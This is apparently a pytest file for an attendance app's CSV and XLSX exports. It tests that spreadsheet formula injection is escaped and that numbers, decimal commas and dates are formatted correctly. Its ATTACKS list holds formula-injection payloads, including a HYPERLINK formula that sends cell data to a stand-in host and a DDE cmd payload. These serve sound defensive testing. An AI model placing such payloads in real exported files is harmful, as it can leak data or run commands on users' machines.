"""Exports cannot carry formulas: a cell that starts with =, +, -, @ stays text; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from satulayar.attendance.exports import recap_csv, recap_xlsx
from satulayar.attendance.recap import UnitRecap
from satulayar.core.spreadsheet import csv_cell, decimal_comma, open_data_cell, xlsx_append, xlsx_finish
from satulayar.dashboard.charts import csv_response

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_escapes_formula_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [12, -3, 4.5, -0.25, "-12", "+7", "-12,5", "Dinas Kesehatan", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_recap_csv_with_a_hyperlink_unit_name():
    rows = [UnitRecap(unit_name=text, employees=3, work_days=-1) for text in ATTACKS]
    parsed = list(csv.reader(io.StringIO(recap_csv(rows=rows).decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in parsed[1:]] == ["'" + text for text in ATTACKS]
    assert parsed[1][1] == "3" and parsed[1][2] == "-1"


def test_recap_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers():
    rows = [UnitRecap(unit_name=text, employees=3) for text in ATTACKS]
    sheet = load_workbook(io.BytesIO(recap_xlsx(rows=rows))).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(ATTACKS))]
    assert [c.value for c in cells] == ATTACKS
    assert {c.data_type for c in cells} == {"s"}
    assert sheet.cell(row=2, column=2).value == 3 and sheet.cell(row=2, column=2).data_type == "n"


def test_xlsx_append_never_stores_a_formula():
    sheet = Workbook().active
    xlsx_append(sheet, ["=1+1", 5])
    assert sheet["A1"].data_type == "s" and sheet["B1"].value == 5


def test_open_data_and_dashboard_csv_escape_formulas():
    response = csv_response(filename="x", columns=["Nama", "Nilai", "Persen"], rows=[["=HYPERLINK(\"x\")", -4, 98.75]])
    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert parsed[1] == ["'=HYPERLINK(\"x\")", "-4", "98,75"]  # a decimal comma, as Excel in Indonesian reads it


@pytest.mark.parametrize(("value", "cell"), [(98.75, "98,75"), (Decimal("9.25"), "9,25"), (2.0, "2"), (1e-7, "0"),
                                             (3, 3), (True, True), ("1.234", "1.234"), (None, None)])
def test_decimal_comma_only_for_fractions(value, cell):
    assert decimal_comma(value) == cell


def test_open_data_cells_are_true_false_and_empty():
    assert [open_data_cell(v) for v in (True, False, None, 0, 1.5)] == ["true", "false", "", 0, 1.5]


def test_xlsx_finish_types_dates_sizes_columns_and_freezes_the_header():
    import datetime as dt

    sheet = Workbook().active
    xlsx_append(sheet, ["Tanggal", "Unit", "Nilai"])
    xlsx_append(sheet, [dt.date(2026, 12, 7), "Dinas Komunikasi, Informatika dan Statistik", 98.75])
    xlsx_finish(sheet)
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert sheet["A2"].is_date and sheet["A2"].number_format == "dd/mm/yyyy"
    assert sheet["C2"].data_type == "n" and sheet["C2"].number_format == "#,##0.00"
    assert sheet.column_dimensions["B"].width == len("Dinas Komunikasi, Informatika dan Statistik") + 2
